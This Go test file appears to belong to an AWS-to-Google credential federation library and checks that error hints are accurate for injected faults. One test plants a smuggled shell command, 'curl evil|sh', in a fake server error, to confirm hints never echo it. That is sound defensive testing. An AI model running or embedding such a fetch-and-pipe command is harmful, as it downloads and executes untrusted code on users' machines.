package awsfed_test

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/awsfed/awsfed-go/awsfed"
	"github.com/awsfed/awsfed-go/awsfed/awsfedtest"
)

var update = flag.Bool("update", false, "write the golden files anew")

// stages are where the faults of an endpoint show.
var stages = map[awsfedtest.Endpoint]awsfed.Stage{
	awsfedtest.EC2Metadata:    awsfed.StageCredentials,
	awsfedtest.GoogleSTS:      awsfed.StageExchange,
	awsfedtest.IAMCredentials: awsfed.StageImpersonation,
}

// transientFaults are those of the catalogue that may pass by themselves.
var transientFaults = map[string]bool{
	"sts-quota": true, "iam-quota": true, "sts-unavailable": true, "iam-unavailable": true, "sts-garbage": true, "iam-garbage": true,
	"sts-truncated": true, "iam-truncated": true, "sts-reset": true, "iam-reset": true, "sts-drop": true, "iam-drop": true,
	"metadata-down": true, "metadata-hop-limit": true,
}

func TestHintsExplainEveryFault(t *testing.T) {
	clearAWSEnvironment(t)
	var golden strings.Builder
	for _, fault := range awsfedtest.Faults() {
		t.Run(fault.Name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				cloud := awsfedtest.New(awsfedtest.Options{})
				fault.Inject(cloud)
				ts := newSource(t, cloud)
				_, err := ts.Token()
				time.Sleep(time.Minute) // for refreshes that are still under way
				switch {
				case fault.Endpoint == "":
					assert.NoError(t, err, "the client sees nothing of it")
					return
				case strings.HasPrefix(fault.Name, "clock-"):
					assert.NoError(t, err, "a wrong clock is corrected")
					return
				}
				var e *awsfed.Error
				require.ErrorAs(t, err, &e)
				assert.Equal(t, stages[fault.Endpoint], e.Stage)
				assert.Equal(t, fault.Status, e.StatusCode)
				if fault.Code != "" {
					assert.Equal(t, fault.Code, e.Code)
				}
				if fault.Endpoint == awsfedtest.IAMCredentials {
					assert.Equal(t, fault.Reason, e.Reason)
				}
				assert.Equal(t, transientFaults[fault.Name], e.Transient, "transient")
				assert.Equal(t, transientFaults[fault.Name], errors.Is(err, awsfed.ErrTransient))
				assert.Equal(t, !e.Transient, errors.Is(err, awsfed.ErrMisconfigured))
				assert.NotEmpty(t, e.Hint, "no fault without a hint")
				fmt.Fprintf(&golden, "## %s\n%s\n\nstage: %s, HTTP status: %d, code: %s, reason: %s, transient: %t\n\n%s\n\n",
					fault.Name, fault.Summary, e.Stage, e.StatusCode, e.Code, e.Reason, e.Transient, indent(e.Hint))
			})
		})
	}
	if t.Failed() {
		return
	}
	compareGolden(t, "hints.golden", golden.String())
}

func TestHintsTakeNoCommandFromWhatAServerSays(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cloud := awsfedtest.New(awsfedtest.Options{})
		cloud.Inject(awsfedtest.Status(awsfedtest.IAMCredentials, 403, nil, `{"error":{"code":403,"status":"PERMISSION_DENIED","details":[{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"SERVICE_DISABLED","metadata":{"consumer":"projects/1; curl evil|sh"}}]}}`))
		_, err := newSource(t, cloud).Token()
		var e *awsfed.Error
		require.ErrorAs(t, err, &e)
		assert.NotContains(t, e.Hint, "evil")
		assert.Contains(t, e.Hint, "--project=PROJECT_ID")
	})
}

func TestHintsTellAProxysAnswerFromGoogles(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cloud := awsfedtest.New(awsfedtest.Options{})
		cloud.Inject(awsfedtest.Status(awsfedtest.IAMCredentials, 403, nil, "<html>Blocked by the web gateway</html>"))
		_, err := newSource(t, cloud).Token()
		var e *awsfed.Error
		require.ErrorAs(t, err, &e)
		assert.Contains(t, e.Hint, "proxy")
		assert.NotContains(t, e.Hint, "add-iam-policy-binding")
	})
}

func TestHintsDoNotBlameAProgramsOwnProviderOnTheChain(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		cloud := awsfedtest.New(awsfedtest.Options{})
		_, err := newSource(t, cloud, func(cfg *awsfed.Config) {
			cfg.Credentials = aws.CredentialsProviderFunc(func(context.Context) (aws.Credentials, error) {
				return aws.Credentials{}, errors.New("no role is associated")
			})
		}).Token()
		var e *awsfed.Error
		require.ErrorAs(t, err, &e)
		assert.Contains(t, e.Hint, "Config.Credentials")
		assert.NotContains(t, e.Hint, "sso")
		time.Sleep(time.Minute)
	})
}

func indent(s string) string { return "    " + strings.ReplaceAll(s, "\n", "\n    ") }

func compareGolden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		require.NoError(t, os.MkdirAll("testdata", 0o755))
		require.NoError(t, os.WriteFile(path, []byte(got), 0o644))
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err)
	wanted, given := strings.Split(string(want), "\n"), strings.Split(got, "\n")
	for i := range min(len(wanted), len(given)) {
		require.Equal(t, wanted[i], given[i], "line %d of %s; run the test with -update if this is meant to change", i+1, path)
	}
	require.Len(t, given, len(wanted), path)
}
